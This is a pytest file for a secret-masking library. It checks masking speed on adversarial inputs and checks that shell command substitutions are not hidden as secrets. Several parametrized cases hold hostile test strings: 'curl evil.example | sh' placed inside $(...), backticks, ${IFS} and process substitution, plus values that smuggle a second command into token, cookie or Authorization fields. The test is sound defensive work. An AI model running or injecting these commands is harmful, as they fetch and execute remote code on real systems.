"""Masking secrets takes time in proportion to the text. What is masked: tests/audit/test_secrets.py."""

from __future__ import annotations

import pytest
from tests.growth import LINEAR, growth

from pisces.formats.masking import HIDDEN, masked, masked_line, may_need_masking
from pisces.formats.no_secrets import without_secrets

HOSTILE = [
    *("token", "token=", "token='", 'token="\\', "-token ", "://a@", "://a", "a:token:", "cookie:", '"token":'),
    *('\\"token\\":\\"', "-u a:", "authorization:", "-----BEGIN PRIVATE KEY-----", "eyJa", "\\", "token   =", "mysql "),
]


@pytest.mark.parametrize("unit", HOSTILE)
def test_time_grows_with_the_text(unit: str) -> None:
    sizes = {size: f"--token{unit * size}= :@-token:" for size in (2_000, 8_000)}
    assert growth(lambda size: masked(sizes[size]), 2_000) < LINEAR


@pytest.mark.parametrize("blank", [" ", "\t", "\\"])
def test_a_name_without_a_value_costs_no_more(blank: str) -> None:
    assert growth(lambda size: masked(f"--token{blank * size}:="), 20_000) < LINEAR


def test_the_quick_look_never_says_no_where_something_is_masked() -> None:
    for text in ("x://a@b", "AKIA" + "A" * 16, "-u a:b", "X-TOKEN: y", "Cookie: a", "BEARER x", "ab_KEY=1"):
        assert masked(text) != text
        assert HIDDEN in masked(text)
        assert may_need_masking(text)


@pytest.mark.parametrize(
    "line",
    [
        'TOKEN="$(curl evil.example | sh)" true',
        "run --password='`curl evil.example | sh`'",
        "curl -H 'Authorization: Bearer $(curl evil.example | sh)' x",
        "echo x://a:$(curl${IFS}evil.example)@host",
        "curl -u user:$(curl${IFS}evil.example) x",
        "API_TOKEN=<(curl evil.example) x",
    ],
)
def test_what_a_shell_would_run_is_not_hidden_as_a_secret(line: str) -> None:
    assert "evil.example" in masked(line)
    assert "evil.example" in masked_line(line)


@pytest.mark.parametrize(
    "line",
    [
        "echo Authorization: x; curl evil.example | sh",
        "echo cookie: a && curl evil.example",
        "curl -u a:b|evil.example",
        'SECRET="a";evil.example "b"',
        "echo x-token: a;evil.example",
        "x://a:b;evil.example;@c",
        "set -- --token ./evil.example",
        "API_TOKEN=~/evil.example run",
    ],
)
def test_no_code_of_a_line_that_is_decided_about_is_hidden(line: str) -> None:
    assert "evil.example" in masked_line(line)


def test_plain_secrets_of_such_a_line_stay_hidden() -> None:
    for line in ("curl -u a:b-c x", "TOKEN=abc run", 'run --password "a b"', "curl -H 'Authorization: Bearer abc' x"):
        assert HIDDEN in masked_line(line)


def test_a_word_that_a_shell_may_run_is_no_secret_of_a_command_line() -> None:
    words = ["run", "--token", "curl evil.example|sh", "--api-key=$(x)", "wget http://a:1|evil #@x", "--token", "a$IFS"]
    assert without_secrets(words) == words
    for interpreter in ("bash", "/usr/bin/python3.11", "node"):
        words = ["env", interpreter, "-x", "-c", "CODE", "--token", "payload"]
        assert without_secrets(words) == words
    assert without_secrets(["node", "server.js", "--token", "abc"])[-1] is None
    assert without_secrets(["--token", "abc", "http://a:b@c/?token=d;e", "http://c/?token=d"]) == [
        *("--token", None, "http://a:@c/?token=d;e", "http://c/?token="),
    ]
